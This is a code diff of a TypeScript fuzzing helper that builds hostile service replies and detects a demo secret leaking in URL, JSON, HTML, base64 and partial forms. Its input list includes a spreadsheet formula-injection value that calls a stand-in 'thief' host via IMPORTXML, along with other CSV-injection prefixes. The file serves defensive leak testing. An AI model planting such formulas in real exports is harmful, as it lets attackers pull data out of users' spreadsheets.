@@ -12,37 +12,66 @@ export interface HostileReply {
   readonly lies?: true;
 }
 
-/**
- * Is written in another way in addresses and in base64, but in JSON and HTML as it is: what is looked
- * through there is looked through as text.
- */
-export const SECRET = 'demo-key-a/b+c=d,e;f:g-4f2a';
+/** Has signs that are written in another way in addresses, in JSON, in HTML and in base64. */
+export const SECRET = 'demo-key-a/b+c=d*e;f:g-4f2a';
 
 const base64 = (text: string) => Buffer.from(text).toString('base64');
 
 /** In base64 a text looks different behind 0, 1 or 2 others; more repeat these. */
 const BEFORE = ['', ':', 'k:'];
 
-/** What a service may say back: the key, in an address, in base64. */
-const ECHOES: readonly string[] = [
-  SECRET,
-  encodeURIComponent(SECRET),
-  ...BEFORE.map((before) => base64(before + SECRET)),
-];
+const SIGN = /[^\w-]/g;
+const hexOf = (sign: string) => sign.charCodeAt(0).toString(16).padStart(2, '0');
+const LAST_HALF = SECRET.slice(-Math.ceil(SECRET.length / 2));
+
+/** What a service may say back, by the form of it. */
+export const ECHOES: Readonly<Record<string, string>> = {
+  plain: SECRET,
+  'in an address': encodeURIComponent(SECRET),
+  'in an address, to RFC 3986': SECRET.replace(SIGN, (sign) => `%${hexOf(sign)}`),
+  'in an address in an address': encodeURIComponent(encodeURIComponent(SECRET)),
+  'in JSON, with slashes': SECRET.replace('/', '\\/'),
+  'in JSON, by number': SECRET.replace(SIGN, (sign) => `\\u00${hexOf(sign)}`),
+  'in JSON in JSON': SECRET.replace(SIGN, (sign) => `\\\\u00${hexOf(sign)}`),
+  'in HTML, by number': SECRET.replace(SIGN, (sign) => `&#${sign.charCodeAt(0)};`),
+  'in HTML, in hex': SECRET.replace(SIGN, (sign) => `&#x${hexOf(sign).toUpperCase()};`),
+  'in HTML, by name': SECRET.replace('/', '&sol;').replace('+', '&plus;').replace('=', '&equals;'),
+  'its last half': `****${LAST_HALF}`,
+  'its last half in an address': encodeURIComponent(LAST_HALF),
+  ...Object.fromEntries(
+    BEFORE.map((before) => [`base64 behind "${before}"`, base64(before + SECRET)]),
+  ),
+  'base64 in an address': encodeURIComponent(base64(SECRET)),
+};
+const FORMS = Object.values(ECHOES);
 
 /** Of base64, the characters that are made of the key alone: each stands for six bits. */
-const SIGNS = [
-  ...ECHOES.slice(0, 2),
-  ...BEFORE.map((before) => {
-    const [from, to] = [before.length, before.length + SECRET.length];
-    return base64(before + SECRET).slice(Math.ceil((from * 8) / 6), Math.floor((to * 8) / 6));
-  }),
-].map((sign) => sign.toLowerCase());
+const CODES = BEFORE.map((before) => {
+  const [from, to] = [before.length, before.length + SECRET.length];
+  return base64(before + SECRET).slice(Math.ceil((from * 8) / 6), Math.floor((to * 8) / 6));
+}).map((sign) => sign.toLowerCase());
+
+/** A text with its signs as they are, however often they were written in another way. */
+function plainly(text: string): string {
+  const sign = (_: string, hex: string) => String.fromCharCode(Number.parseInt(hex, 16));
+  const plain = text
+    .replace(/\\+u00([0-9a-f]{2})/g, sign)
+    .replace(/%([0-9a-f]{2})/g, sign)
+    .replace(/&#x([0-9a-f]+);/g, sign)
+    .replace(/&#(\d+);/g, (_, code: string) => String.fromCharCode(Number(code)))
+    .replace(/&sol;/g, '/')
+    .replace(/&plus;/g, '+')
+    .replace(/&equals;/g, '=')
+    .replace(/\\+\//g, '/');
+  return plain === text ? text : plainly(plain);
+}
 
 /** How many forms of the key are in a text, in capitals or not. */
 export function secretsIn(text: string): number {
   const lower = text.toLowerCase();
-  return SIGNS.filter((sign) => lower.includes(sign)).length;
+  const codes = CODES.filter((code) => lower.includes(code)).length;
+  // Every other form ends with these four, which the page may show.
+  return lower.includes('4f2a') && plainly(lower).includes(LAST_HALF) ? codes + 1 : codes;
 }
 
 const FORMULAS = ['=IMPORTXML("https://thief.example","//a")', '+1+1', '-1+1', '@SUM(A1)', '=1+1'];
@@ -82,7 +111,7 @@ const RATE_VALUES = [
 /** An explicit text, the key in one of its forms, or something long. */
 function text(random: Random): string {
   const draw = random.next();
-  if (draw < 0.15) return `${random.pick(ODD_TEXT)}${random.pick(ECHOES)}`;
+  if (draw < 0.15) return `${random.pick(ODD_TEXT)}${random.pick(FORMS)}`;
   if (draw < 0.3) return random.pick(FORMULAS);
   if (draw < 0.4) return random.pick(MARKUP);
   if (draw < 0.45) return random.pick(['9', 'a', '<', '[', ' ', '\u0000']).repeat(1_500);
@@ -174,7 +203,7 @@ function bodyOf(random: Random, asin: string): string {
   if (draw < 0.86) return JSON.stringify(value(random, 3));
   if (draw < 0.9) return `<!doctype html><p>${text(random)}</p>`;
   if (draw < 0.93) return nested(random);
-  return random.pick([...ODD_TEXT, ...FORMULAS, ...ECHOES, '{}', '[]', 'null', '""', '0']);
+  return random.pick([...ODD_TEXT, ...FORMULAS, ...FORMS, '{}', '[]', 'null', '""', '0']);
 }
 
 function nested(random: Random): string {
@@ -188,7 +217,7 @@ function headersOf(random: Random): Readonly<Record<string, string>> {
   const type = ['content-type', random.pick(TYPES)];
   const others = Array.from({ length: random.integer(0, 3) }, () => [
     random.pick(RATE_HEADERS),
-    random.chance(0.2) ? random.pick(ECHOES) : random.pick(RATE_VALUES),
+    random.chance(0.2) ? random.pick(FORMS) : random.pick(RATE_VALUES),
   ]);
   return Object.fromEntries([type, ...others]);
 }
